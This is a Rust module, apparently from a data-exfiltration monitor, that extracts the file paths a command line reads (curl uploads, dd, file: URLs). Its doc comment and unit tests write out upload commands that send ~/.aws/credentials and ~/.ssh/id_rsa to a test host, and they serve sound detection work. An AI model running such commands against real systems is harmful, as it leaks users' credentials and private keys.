//! Files that a command line names.
//!
//! `curl -T ~/.aws/credentials`, `-F file=@x`, `--data-binary @x`, `--file=x`, `if=x`: the command itself says what it
//! reads, so no open event is needed (`evidence: argv`). Relative names are resolved against the working directory.
//!
//! Most words of a command line are no files, and in `~/Documents` every one of them would make a sensitive path. A
//! relative word is taken for one only where it is written as one. Any other word counts no more than it says itself:
//! `id_rsa` in `~/.ssh`, but not `push` in `~/Library/Keychains`, which is sensitive by where it was said alone. What is
//! missed so is told by the open, if it was a file.

use crate::model::{ExecFacts, FilePath};

/// Paths looked at in one command line at most.
const MAX_PATHS: usize = 256;
/// A name that no pattern spells: what it belongs to, its folder belongs to.
const ANY_NAME: &str = "-";
/// Endings of hosts, which are written like those of files.
const DOMAINS: [&str; 21] = [
    "ai", "cloud", "co", "com", "corp", "de", "dev", "edu", "eu", "fr", "gov", "internal", "io", "lan",
    "local", "net", "nl", "org", "test", "uk", "us",
];

/// A path that an argument may mean.
pub struct Named {
    pub path: FilePath,
    /// Written as a path. If not, it may be any word, and means what its folder does not.
    pub clear: bool,
}

/// Words of a line whose meaning is known.
#[derive(Debug, Default)]
pub struct Understood {
    /// Neither read nor sent, and no part of them is.
    pub spared: Vec<Box<str>>,
    /// Taken for sent already.
    pub sent: Vec<Box<str>>,
}

/// Every absolute path that an argument may mean, but for those that were understood.
pub fn paths(facts: &ExecFacts, understood: &Understood) -> Vec<Named> {
    let among = |words: &[Box<str>], text: &str| words.iter().any(|word| **word == *text);
    let spared = |text: &str| among(&understood.spared, text);
    let args = facts.args.iter().skip(1).filter(|arg| !spared(arg));
    let candidates = args.flat_map(|arg| spellings(arg));
    let candidates =
        candidates.filter(|path| !spared(path) && !among(&understood.sent, path)).take(MAX_PATHS);
    let known = candidates.filter(|path| path.starts_with('/') || facts.cwd.is_some());
    known.map(|path| Named { path: FilePath::new(&resolved(path, facts)), clear: is_clear(path) }).collect()
}

/// Some file of the working directory.
pub fn any_here(facts: &ExecFacts) -> FilePath {
    FilePath::new(&resolved(ANY_NAME, facts))
}

/// Is it written as a path, wherever it is said? A slash alone is in `owner/name` and `origin/main`, too.
fn is_clear(word: &str) -> bool {
    matches!(word, "." | "..")
        || ["/", "~/", "./", "../"].iter().any(|begin| word.starts_with(begin))
        || word.ends_with('/')
        || has_extension(word)
}

/// `report.docx`, `corp/plan.md`; but no host, no version, no sentence or code.
fn has_extension(word: &str) -> bool {
    let strange = |c: char| c.is_whitespace() || c.is_control() || "'\"`{}()<>|;&$*\\".contains(c);
    let name = word.rsplit('/').next().unwrap_or(word);
    let Some((stem, extension)) = name.rsplit_once('.').filter(|_| !word.contains(strange)) else {
        return false;
    };
    let first = stem.split('.').next().unwrap_or(stem);
    let domain = |part: &str| DOMAINS.iter().any(|domain| domain.eq_ignore_ascii_case(part));
    !stem.is_empty()
        && (1..=10).contains(&extension.len())
        && extension.bytes().all(|b| b.is_ascii_alphanumeric())
        && extension.bytes().any(|b| b.is_ascii_alphabetic())
        && !domain(extension)
        && !domain(first)
}

/// The path as the process means it: relative to its working directory, `~/` at home.
pub fn resolved(path: &str, facts: &ExecFacts) -> Vec<u8> {
    let home = || facts.env.iter().find(|(name, _)| &**name == "HOME").map(|(_, home)| home.as_bytes());
    let (base, rest) = match (path.strip_prefix("~/").zip(home()), &facts.cwd) {
        (Some((rest, home)), _) => (home, rest),
        (None, Some(cwd)) if !path.starts_with('/') => {
            (cwd.as_bytes(), path.strip_prefix("./").unwrap_or(path))
        }
        _ => return path.as_bytes().to_vec(),
    };
    [base, b"/", rest.as_bytes()].concat()
}

/// The ways one argument may hold paths: itself, as a list that `curl -T` takes apart (`{a,b}`), after `@`, after `=`, after `=@`, as a `file:` URL. URLs of other kinds hold none.
fn spellings(arg: &str) -> impl Iterator<Item = &str> {
    let list = arg.strip_prefix('{').and_then(|list| list.strip_suffix('}'));
    let listed = list.into_iter().flat_map(|list| list.split(','));
    let whole = arg.strip_prefix("file://").unwrap_or(arg);
    let after_at = arg.strip_prefix('@');
    let value = arg.split_once('=').map(|(_, value)| value.trim_start_matches(['@', '<']));
    let value = value.map(|value| value.strip_prefix("file://").unwrap_or(value));
    let value = value.map(|value| value.split_once(';').map_or(value, |(path, _)| path));
    let plausible = |path: &&str| {
        !path.is_empty() && path.len() <= 4096 && !path.starts_with('-') && !path.contains("://")
    };
    [Some(whole), after_at, value].into_iter().flatten().chain(listed).filter(plausible)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn named(args: &[&str]) -> Vec<String> {
        let facts = ExecFacts {
            args: args.iter().map(|arg| Box::from(*arg)).collect(),
            cwd: Some("/Users/a".into()),
            ..ExecFacts::default()
        };
        paths(&facts, &Understood::default()).iter().map(|named| named.path.to_string()).collect()
    }

    #[test]
    fn finds_paths_in_the_usual_upload_forms() {
        let table: [(&[&str], &str); 7] = [
            (&["curl", "-T", ".aws/credentials", "https://x.test/"], "/Users/a/.aws/credentials"),
            (
                &["curl", "-F", "file=@/Users/a/.ssh/id_rsa;type=text/plain", "https://x.test/"],
                "/Users/a/.ssh/id_rsa",
            ),
            (&["curl", "--data-binary", "@/tmp/x", "https://x.test/"], "/tmp/x"),
            (&["aws", "s3api", "put-object", "--body=./x"], "/Users/a/x"),
            (&["curl", "-T", "{/etc/hosts,/Users/a/x}", "https://x.test/"], "/Users/a/x"),
            (&["dd", "if=/Users/a/x"], "/Users/a/x"),
            (&["az", "upload", "file:///Users/a/x"], "/Users/a/x"),
        ];
        for (args, path) in table {
            assert!(named(args).iter().any(|found| found == path), "{args:?} gave {:?}", named(args));
        }
    }

    #[test]
    fn urls_and_options_are_no_paths() {
        assert_eq!(
            named(&["curl", "--silent", "https://content.dropboxapi.com/2/files/upload"]),
            [] as [&str; 0]
        );
    }

    #[test]
    fn what_is_written_as_a_path_is_told_from_other_words() {
        for path in [
            ".",
            "..",
            "./x",
            "../x",
            "~/x",
            "/x",
            "x/",
            "x.docx",
            "a/b/x.tar.gz",
            ".x.7z",
            "Plan.KEY",
            "a@2x.png",
        ] {
            assert!(is_clear(path), "{path}");
        }
        for word in [
            "push",
            "origin",
            "origin/main",
            "owner/name",
            "mega:x",
            "42",
            "#general",
            "{\"a\":1}",
            "\"a.b\":c",
            "v1.2.3",
            "3.11",
            "app:1.0",
            "host.corp.com",
            "me@corp.com",
            "com.apple.finder",
            "ghcr.io",
            "a fix of x.rs",
            "f(x).y",
            "*.pdf",
            "x.",
            ".env",
            "",
        ] {
            assert!(!is_clear(word), "{word}");
        }
    }
}
